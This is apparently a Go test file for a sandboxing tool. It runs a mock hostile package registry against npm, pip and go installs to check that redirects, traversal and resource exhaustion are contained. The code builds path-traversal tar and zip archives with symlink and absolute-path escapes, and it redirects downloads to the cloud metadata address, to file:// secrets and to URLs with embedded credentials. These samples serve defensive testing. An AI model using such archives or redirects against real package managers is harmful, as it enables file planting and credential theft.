package ecosystems

import (
	"archive/tar"
	"archive/zip"
	"bytes"
	"compress/gzip"
	"fmt"
	"io/fs"
	"net/http"
	"net/http/httptest"
	"net/url"
	"os"
	"os/exec"
	"path"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/millhand/millhand/internal/dev/nightly"
	"github.com/millhand/millhand/internal/sandbox"
)

// hostileRegistry serves packages to npm, pip and go that lead elsewhere: the name of a package is what it tries.
type hostileRegistry struct {
	*httptest.Server
	other, home string // URL of another server; home directory of the user

	mu   sync.Mutex
	seen map[string]bool // what was tried
}

func newHostileRegistry(t *testing.T, other, home string) *hostileRegistry {
	t.Helper()
	r := &hostileRegistry{other: other, home: home, seen: map[string]bool{}}
	r.Server = httptest.NewServer(r)
	t.Cleanup(r.Close)
	return r
}

// archives lists where the archive of each package is. "here" is on the registry itself.
func (r *hostileRegistry) archives() map[string]string {
	_, port, _ := strings.Cut(strings.TrimPrefix(r.other, "http://"), ":")
	return map[string]string{
		"redirect": "here", "redirect-metadata": "here", "redirect-file": "here", "redirect-user": "here", "traversal": "here", "endless": "here", "slow": "here",
		"direct": r.other + "/gotcha", "by-name": "http://localhost:" + port + "/gotcha", "by-number": "http://2130706433:" + port + "/gotcha",
		"metadata": "http://169.254.169.254/gotcha", "file": "file://" + r.home + "/secret.tgz",
	}
}

// ServeHTTP implements [http.Handler].
func (r *hostileRegistry) ServeHTTP(w http.ResponseWriter, req *http.Request) {
	for name, at := range r.archives() {
		switch req.URL.Path {
		case "/" + name: // npm
			if at == "here" {
				at = r.URL + "/archive/npm/" + name + ".tgz"
			}
			fmt.Fprintf(w, `{"name":%q,"dist-tags":{"latest":"1.0.0"},"versions":{"1.0.0":{"name":%q,"version":"1.0.0","dist":{"tarball":%q}}}}`, name, name, at)
			r.note("npm " + name)
			return
		case "/simple/" + name + "/": // pip
			if at == "here" {
				at = r.URL + "/archive/pip/" + name + "-1.0.0.tar.gz"
			}
			w.Header().Set("Content-Type", "text/html")
			fmt.Fprintf(w, "<!DOCTYPE html><html><body><a href=%q>%s-1.0.0.tar.gz</a></body></html>", at+"#"+name+"-1.0.0.tar.gz", name)
			r.note("pip " + name)
			return
		case "/go/evil.example/" + name + "/@v/v1.0.0.info":
			fmt.Fprint(w, `{"Version":"v1.0.0","Time":"2026-01-01T00:00:00Z"}`)
			return
		case "/go/evil.example/" + name + "/@v/v1.0.0.mod":
			fmt.Fprintf(w, "module evil.example/%s\n", name)
			return
		case "/go/evil.example/" + name + "/@v/v1.0.0.zip":
			r.note("go " + name)
			r.archive(w, req, "go", name)
			return
		}
	}
	if dir, file := path.Split(req.URL.Path); strings.HasPrefix(dir, "/archive/") {
		name, _, _ := strings.Cut(file, ".")
		r.archive(w, req, path.Base(dir), strings.TrimSuffix(name, "-1"))
		return
	}
	http.NotFound(w, req)
}

func (r *hostileRegistry) note(what string) {
	r.mu.Lock()
	defer r.mu.Unlock()
	r.seen[what] = true
}

// archive serves the archive of a package.
func (r *hostileRegistry) archive(w http.ResponseWriter, req *http.Request, program, name string) {
	switch name {
	case "redirect":
		http.Redirect(w, req, r.other+"/gotcha", http.StatusFound)
	case "redirect-metadata":
		http.Redirect(w, req, "http://169.254.169.254/gotcha", http.StatusTemporaryRedirect)
	case "redirect-file":
		http.Redirect(w, req, "file://"+r.home+"/secret.tgz", http.StatusFound)
	case "redirect-user":
		http.Redirect(w, req, strings.Replace(r.other, "://", "://"+strings.TrimPrefix(r.URL, "http://")+"@", 1)+"/gotcha", http.StatusFound)
	case "endless":
		block := bytes.Repeat([]byte("gotcha"), 10_000)
		for req.Context().Err() == nil {
			if _, err := w.Write(block); err != nil {
				return
			}
		}
	case "slow":
		for range time.Tick(200 * time.Millisecond) {
			if _, err := w.Write([]byte("g")); err != nil || req.Context().Err() != nil {
				return
			}
			w.(http.Flusher).Flush() //nolint:forcetypeassert // of net/http
		}
	case "traversal":
		w.Write(traversal(program))
	default:
		http.Redirect(w, req, r.archives()[name], http.StatusFound) // of go, whose registry names no addresses
	}
}

// traversal is an archive whose files are beside it, above it, below a symlink in it, and absolute.
func traversal(program string) []byte {
	var text bytes.Buffer
	names := []string{"../planted-above", "../../../../planted-far", "/planted-absolute", "out/planted-by-symlink"}
	if program == "go" {
		z := zip.NewWriter(&text)
		for _, name := range append(names, "evil.example/traversal@v1.0.0/../../planted-module", "evil.example/traversal@v1.0.0/go.mod") {
			f, _ := z.Create(name)
			f.Write([]byte("gotcha"))
		}
		z.Close()
		return text.Bytes()
	}
	compressed := gzip.NewWriter(&text)
	a := tar.NewWriter(compressed)
	a.WriteHeader(&tar.Header{Name: "package/package.json", Typeflag: tar.TypeReg, Size: 2, Mode: 0o644})
	a.Write([]byte("{}"))
	a.WriteHeader(&tar.Header{Name: "package/out", Typeflag: tar.TypeSymlink, Linkname: "../../../.."})
	for _, name := range names {
		a.WriteHeader(&tar.Header{Name: "package/" + name, Typeflag: tar.TypeReg, Size: 6, Mode: 0o644})
		a.Write([]byte("gotcha"))
	}
	a.Close()
	compressed.Close()
	return text.Bytes()
}

// registryCommand is the command of setup that installs a package.
func registryCommand(program string) string {
	return map[string]string{
		"npm": "timeout 10 npm install --no-audit --no-fund --fetch-retries=0 %s",
		"pip": "timeout 10 python3 -m pip download -q --no-deps --no-build-isolation --retries 0 --disable-pip-version-check -d got %s",
		"go":  "GONOSUMDB='*' GOFLAGS=-mod=mod timeout 10 go mod download evil.example/%s@v1.0.0",
	}[program]
}

func TestAHostileRegistryLeadsNowhere(t *testing.T) {
	if !nightly.On() {
		t.Skip("long, and run at night")
	}
	for _, program := range []string{"npm", "pip", "go"} {
		if _, err := exec.LookPath(program); err != nil {
			t.Logf("%s is not on PATH", program)
			continue
		}
		t.Run(program, func(t *testing.T) {
			names := []string{"redirect", "redirect-metadata", "redirect-file", "redirect-user", "traversal", "direct", "by-name", "by-number", "metadata", "file"}
			best := sandbox.Probe(t.Context(), t.TempDir()).Best
			for wrapper, flags := range map[string][]string{"": nil, "without-namespaces": nil, "off": {"--sandbox", "off"}} {
				if wrapper == "off" {
					wrapper = ""
				} else if best == sandbox.None || wrapper == "" && best != sandbox.Full {
					continue
				}
				try := registryAttack(t, program, "{time: 5m}", names...)
				out := setupAttack{}.millhand(t, try.base, wrapper, flags)
				reached := try.other.reached()
				for _, name := range names {
					if !try.registry.seen[program+" "+name] {
						t.Errorf("%s %s was not tried:\n%s", program, name, out)
					}
				}
				if flags != nil && !reached {
					t.Errorf("it reaches nothing where nothing is confined:\n%s", out)
				}
				if flags == nil && (reached || try.planted() != "") {
					t.Errorf("%q: reached another server: %t; planted %s\n%s", wrapper, reached, try.planted(), out)
				}
			}
		})
	}
}

// A registry that sends for ever fills neither the disk nor the memory, and ends with the job.
func TestAnEndlessRegistryIsLimited(t *testing.T) {
	if !nightly.On() {
		t.Skip("long, and run at night")
	}
	for _, name := range []string{"endless", "slow"} {
		try := registryAttack(t, "npm", "{disk: 60MB, time: 15s}", name)
		began := time.Now()
		out := setupAttack{}.millhand(t, try.base, "", nil)
		if !strings.Contains(out, "limit") || time.Since(began) > 2*time.Minute {
			t.Errorf("%s: after %s:\n%s", name, time.Since(began), out)
		}
	}
}

type registryTry struct {
	base     string
	other    *visits
	registry *hostileRegistry
}

// registryAttack makes a repository whose setup installs the packages.
func registryAttack(t *testing.T, program, limits string, names ...string) *registryTry {
	t.Helper()
	base, err := filepath.EvalSymlinks(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	other := newVisits(t, "")
	registry := newHostileRegistry(t, other.URL, filepath.Join(base, "home"))
	mine, err := url.Parse(registry.URL)
	if err != nil {
		t.Fatal(err)
	}
	mine.User = url.UserPassword("me", "gotcha")
	host := strings.TrimPrefix(registry.URL, "http:")
	var setup strings.Builder
	for _, name := range names {
		fmt.Fprintf(&setup, registryCommand(program)+" || true\n", name)
	}
	for name, text := range map[string]string{
		"manifest.yaml":             "version: 1\nmodel: script:turns.yaml\nprofile: build\nlimits: " + limits + "\nrepos: [{path: shop}]\ntasks: [{id: try, prompt: Try., commit: false, setup: [bash install.sh]}]\n",
		"turns.yaml":                "version: 1\nturns:\n  - text: Done.\n",
		"shop/package.json":         "{}",
		"shop/requirements.txt":     "",
		"shop/go.mod":               "module shop.example\n\ngo 1.24\n",
		"shop/install.sh":           setup.String(),
		"shop/.gitignore":           "*\n!install.sh\n!package.json\n!requirements.txt\n!go.mod\n",
		"home/.npmrc":               "registry=" + mine.String() + "/\n" + host + "/:_authToken=gotcha\n",
		"home/.config/pip/pip.conf": "[global]\nindex-url = " + mine.String() + "/simple/\n",
		"home/.config/go/env":       "GOPROXY=" + registry.URL + "/go\nGOMODCACHE=" + filepath.Join(base, "modules") + "\n",
		"home/secret.tgz":           "gotcha",
		"home/planted/of-the-user":  "x",
		"tmp/x":                     "",
	} {
		at := filepath.Join(base, name)
		if err := os.MkdirAll(filepath.Dir(at), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(at, []byte(text), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	for _, args := range [][]string{{"init", "-q", "-b", "main"}, {"add", "."}, {"-c", "user.name=T", "-c", "user.email=t@example.com", "commit", "-q", "-m", "start"}} {
		if out, err := exec.Command("git", append([]string{"-C", filepath.Join(base, "shop")}, args...)...).CombinedOutput(); err != nil {
			t.Fatalf("git %v: %v\n%s", args, err, out)
		}
	}
	return &registryTry{base, other, registry}
}

// planted names what was written outside of the repository; "" if nothing was.
func (r *registryTry) planted() (found string) {
	filepath.WalkDir(r.base, func(at string, d fs.DirEntry, _ error) error {
		if d != nil && strings.HasPrefix(d.Name(), "planted-") && !strings.HasPrefix(at, filepath.Join(r.base, "shop")+"/") {
			found = at
		}
		return nil
	})
	for _, at := range []string{"/planted-absolute", "/planted-far"} {
		if _, err := os.Lstat(at); err == nil {
			found = at
		}
	}
	return found
}

// reached reports whether any request came.
func (v *visits) reached() bool {
	v.mu.Lock()
	defer v.mu.Unlock()
	return v.gotcha
}
